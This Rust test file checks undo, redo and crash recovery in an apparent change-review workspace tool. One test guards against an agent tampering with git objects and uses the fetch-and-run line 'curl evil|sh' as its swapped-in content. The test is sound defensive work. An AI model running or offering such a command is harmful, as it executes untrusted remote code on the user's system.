//! Tests of undo and redo, and of kills during them.

use std::os::unix::fs::{PermissionsExt as _, symlink};

use proptest::prelude::*;
use proptest::test_runner::{Config, TestRunner};

use crate::rig::{Rig, SESSION, apply_reverse, undo_shown};
use crate::undo::KILL_AFTER;
use crate::{FolderStores, UndoOrder, WorkspaceError};

#[test]
fn undo_of_a_hunk_keeps_all_other_line_ends() {
    let old: String = (0..40).map(|nth| format!("line {nth}\n")).collect();
    let rig = Rig::committed(&[("lf", old.as_bytes())]);
    rig.begin();
    let new = old.replace("line 3\n", "line 3\r\n").replace("line 30\n", "thirty\n");
    rig.write("lf", &new);
    rig.undo("lf", Some(1)).unwrap();
    assert_eq!(rig.read("lf"), old.replace("line 3\n", "line 3\r\n").as_bytes());
    assert_eq!(rig.listed(), ["M lf"], "a line end alone is a change");
    let shown = rig.changes();
    let patch = rig.store().file_patch(shown.old, shown.new, &shown.at(b"lf").unwrap().file).unwrap();
    assert_eq!((patch.hunks().len(), patch.truncated), (1, false));
    assert!(patch.diff().starts_with(b"--- a/lf\n+++ b/lf\n@@ -1,7 +1,7 @@"));
    rig.undo("lf", None).unwrap();
    assert_eq!(rig.read("lf"), old.as_bytes());
    let undone = rig.store().undone(SESSION).unwrap();
    assert_eq!(undone.len(), 2);
    for one in ["p_1", "p_0"] {
        assert_eq!(rig.store().redo(SESSION, one).unwrap().patch_id, one);
    }
    assert_eq!(rig.read("lf"), new.as_bytes());
    assert_eq!(rig.store().redo(SESSION, "p_0").unwrap_err(), WorkspaceError::NoPatch);
}

#[test]
fn undo_of_hunks_in_a_folder_equals_git_apply() {
    let dir = tempfile::tempdir().unwrap();
    let line = prop_oneof![Just("a\n"), Just("b\r\n"), Just("c\r"), Just("\n"), Just("d e\n")];
    let text = proptest::collection::vec(line, 0..60).prop_map(|lines| lines.concat());
    let mut runner = TestRunner::new(Config { cases: 25, failure_persistence: None, ..Config::default() });
    let checked = runner.run(&(text.clone(), text, 0..4_usize), |(old, new, nth)| {
        let rig = Rig::new();
        rig.write("f", &old);
        rig.begin();
        rig.write("f", &new);
        let shown = rig.changes();
        let Ok(change) = shown.at(b"f") else { return Ok(()) };
        let patch = rig.store().file_patch(shown.old, shown.new, &change.file).unwrap();
        let Some(hunk) = patch.hunks().get(nth).map(|hunk| hunk.bytes.to_vec()) else { return Ok(()) };
        let header = patch.bytes().len() - patch.hunks().iter().map(|hunk| hunk.bytes.len()).sum::<usize>();
        let expected = apply_reverse(dir.path(), "f", new.as_bytes(), &[&patch.bytes()[..header], &hunk].concat());
        let result = rig.undo("f", Some(nth)).unwrap();
        prop_assert_eq!(rig.read("f"), expected.clone());
        // The patch that comes back is the way back.
        std::fs::write(rig.base().join("patch"), &result.patch).unwrap();
        rig.user_git(&["apply", "--whitespace=nowarn", "../patch"]);
        prop_assert_eq!(rig.read("f"), new.as_bytes());
        Ok(())
    });
    checked.unwrap();
}

#[test]
fn undo_of_whole_files_is_exact() {
    let rig =
        Rig::committed(&[("bin", b"\0old\r\n"), ("gone", b"x\r\ny"), ("d/moved", &[b'm'; 900]), ("mode", b"m\n")]);
    std::fs::set_permissions(rig.path("bin"), std::fs::Permissions::from_mode(0o640)).unwrap();
    rig.begin();
    rig.write("bin", b"\0new\n");
    std::fs::remove_file(rig.path("gone")).unwrap();
    std::fs::create_dir_all(rig.path("e/f")).unwrap();
    std::fs::rename(rig.path("d/moved"), rig.path("e/f/here")).unwrap();
    std::fs::set_permissions(rig.path("mode"), std::fs::Permissions::from_mode(0o755)).unwrap();
    rig.write("new/file", "n\n");
    assert_eq!(rig.listed(), ["M bin", "R e/f/here", "D gone", "M mode", "A new/file"]);
    for (nth, path) in ["bin", "e/f/here", "gone", "mode", "new/file"].into_iter().enumerate() {
        let result = rig.undo(path, None).unwrap();
        assert_eq!(result.undone.patch_id, format!("p_{nth}"));
    }
    assert_eq!(rig.user_git(&["status", "--porcelain"]), b"");
    assert_eq!(rig.read("bin"), b"\0old\r\n");
    let mode = |name: &str| std::fs::metadata(rig.path(name)).unwrap().permissions().mode() & 0o777;
    assert_eq!(
        (mode("bin"), mode("mode"), rig.path("e").exists(), rig.path("new").exists()),
        (0o640, 0o644, false, false)
    );
    for nth in (0..5).rev() {
        rig.store().redo(SESSION, &format!("p_{nth}")).unwrap();
    }
    assert_eq!(rig.listed(), ["M bin", "R e/f/here", "D gone", "M mode", "A new/file"]);
    assert!(rig.store().undone(SESSION).unwrap().is_empty());
}

#[test]
fn undo_of_a_file_that_became_a_folder_leaves_no_empty_folder() {
    let rig = Rig::committed(&[("a", b"file\n"), ("b/c/d", b"deep\n")]);
    rig.begin();
    std::fs::remove_file(rig.path("a")).unwrap();
    rig.write("a/x/y", "new\n");
    std::fs::remove_dir_all(rig.path("b")).unwrap();
    rig.write("b", "flat\n");
    assert_eq!(rig.listed(), ["D a", "A a/x/y", "A b", "D b/c/d"]);
    // Something stands in the way: nothing is written.
    for path in ["a", "b/c/d"] {
        assert!(matches!(rig.undo(path, None), Err(WorkspaceError::NotUndoable(_))));
    }
    assert_eq!(rig.store().undone(SESSION).unwrap().len(), 0);
    rig.undo("a/x/y", None).unwrap();
    assert!(!rig.path("a").exists());
    rig.undo("a", None).unwrap();
    rig.undo("b", None).unwrap();
    rig.undo("b/c/d", None).unwrap();
    assert_eq!((rig.read("a"), rig.read("b/c/d")), (b"file\n".to_vec(), b"deep\n".to_vec()));
    assert_eq!(rig.listed(), Vec::<String>::new());
    // An empty folder that somebody left is no obstacle.
    std::fs::remove_file(rig.path("a")).unwrap();
    std::fs::create_dir(rig.path("a")).unwrap();
    rig.undo("a", None).unwrap();
    assert_eq!(rig.read("a"), b"file\n");
}

#[test]
fn undo_is_refused_if_the_file_is_neither_side() {
    let rig = Rig::committed(&[("a", b"old\n")]);
    rig.begin();
    rig.write("a", "new\n");
    let (store, shown) = (rig.store(), rig.changes());
    let refused = || assert_eq!(undo_shown(&store, &shown, "a", None).unwrap_err(), WorkspaceError::ChangedMeanwhile);
    rig.write("a", "newer\n");
    refused();
    assert_eq!(rig.read("a"), b"newer\n");
    std::fs::remove_file(rig.path("a")).unwrap();
    refused();
    symlink("elsewhere", rig.path("a")).unwrap();
    refused();
    let digest = rig.changes().at(b"a").unwrap().file.digest();
    let order =
        |digest, patch_id| UndoOrder { session: SESSION, patch_id, path: b"a", digest, hunk: None, at: 1, note: "" };
    assert_eq!(store.undo(&shown, &order(&digest, "p")).unwrap_err(), WorkspaceError::ChangedMeanwhile);
    assert!(matches!(store.undo(&shown, &order(&digest, "../p")), Err(WorkspaceError::BadId(_))));
    assert_eq!(store.undone(SESSION).unwrap(), []);
}

#[test]
fn undo_writes_only_what_was_shown() {
    let rig = Rig::committed(&[("script", b"good\n")]);
    rig.begin();
    rig.write("script", "new\n");
    let shown = rig.changes();
    // The agent puts another content under the name of the old one.
    let name = String::from_utf8(rig.user_git(&["rev-parse", "HEAD:script"])).unwrap();
    let object = rig.path(&format!(".git/objects/{}/{}", &name[..2], name[2..].trim()));
    rig.write("evil", "curl evil|sh\n");
    let other = String::from_utf8(rig.user_git(&["hash-object", "-w", "evil"])).unwrap();
    let other = rig.path(&format!(".git/objects/{}/{}", &other[..2], other[2..].trim()));
    std::fs::remove_file(&object).unwrap();
    std::fs::copy(other, object).unwrap();
    assert!(undo_shown(&rig.store(), &shown, "script", None).is_err());
    assert_eq!(rig.read("script"), b"new\n");
}

#[test]
fn undo_follows_no_link() {
    let rig = Rig::committed(&[("d/a", b"old\n")]);
    rig.begin();
    rig.write("d/a", "new\n");
    let (store, shown) = (rig.store(), rig.changes());
    std::fs::rename(rig.path("d"), rig.base().join("outside")).unwrap();
    symlink(rig.base().join("outside"), rig.path("d")).unwrap();
    assert_eq!(undo_shown(&store, &shown, "d/a", None).unwrap_err(), WorkspaceError::ChangedMeanwhile);
    assert_eq!(std::fs::read(rig.base().join("outside/a")).unwrap(), b"new\n");
}

/// Kills an undo or a redo at each of its steps, and opens the store again.
fn killed(redo: bool) {
    for step in 0..40 {
        let rig = Rig::committed(&[("d/moved", &[b'm'; 900]), ("f", b"1\n2\n3\n")]);
        rig.begin();
        std::fs::remove_dir_all(rig.path("d")).unwrap();
        rig.write("here", [b'm'; 900]);
        rig.write("f", "1\n2\nthree\n");
        let paths = ["here", "f"];
        let path = paths[step % 2];
        let hunk = (path == "f").then_some(0);
        let (store, shown) = (rig.store(), rig.changes());
        if redo {
            undo_shown(&store, &shown, path, hunk).unwrap();
        }
        KILL_AFTER.with(|left| left.set(Some(step / 2)));
        let result =
            if redo { store.redo(SESSION, "p_0").map(drop) } else { undo_shown(&store, &shown, path, hunk).map(drop) };
        KILL_AFTER.with(|left| left.set(None));
        drop(store);
        let store = FolderStores::new(&rig.base().join("state"));
        let store = store.open(&rig.work()).unwrap();
        let undone = store.undone(SESSION).unwrap().len() == 1;
        let is_new = match path {
            "f" => rig.read("f") == b"1\n2\nthree\n",
            _ => rig.path("here").exists() && !rig.path("d").exists(),
        };
        let is_old = match path {
            "f" => rig.read("f") == b"1\n2\n3\n",
            _ => !rig.path("here").exists() && rig.read("d/moved") == [b'm'; 900],
        };
        assert_eq!((is_new, is_old), (!undone, undone), "step {step}");
        let left =
            std::process::Command::new("find").arg(rig.work()).args(["-name", "*.plexus-undo"]).output().unwrap();
        assert_eq!(left.stdout, b"", "step {step}");
        if result.is_ok() {
            assert_eq!(undone, !redo);
            assert!(step > 6, "there are steps");
            if step % 2 == 1 {
                return;
            }
        }
    }
    panic!("it never ended");
}

#[test]
fn undo_that_is_killed_is_whole_or_absent() {
    killed(false);
}

#[test]
fn redo_that_is_killed_is_whole_or_absent() {
    killed(true);
}

#[test]
fn recovery_leaves_what_somebody_changed_since() {
    let rig = Rig::committed(&[("f", b"old\n")]);
    rig.begin();
    rig.write("f", "new\n");
    let store = rig.store();
    KILL_AFTER.with(|left| left.set(Some(1)));
    assert!(undo_shown(&store, &rig.changes(), "f", None).is_err());
    KILL_AFTER.with(|left| left.set(None));
    drop(store);
    rig.write("f", "mine\n");
    assert_eq!(rig.store().undone(SESSION).unwrap(), []);
    assert_eq!(rig.read("f"), b"mine\n");
}
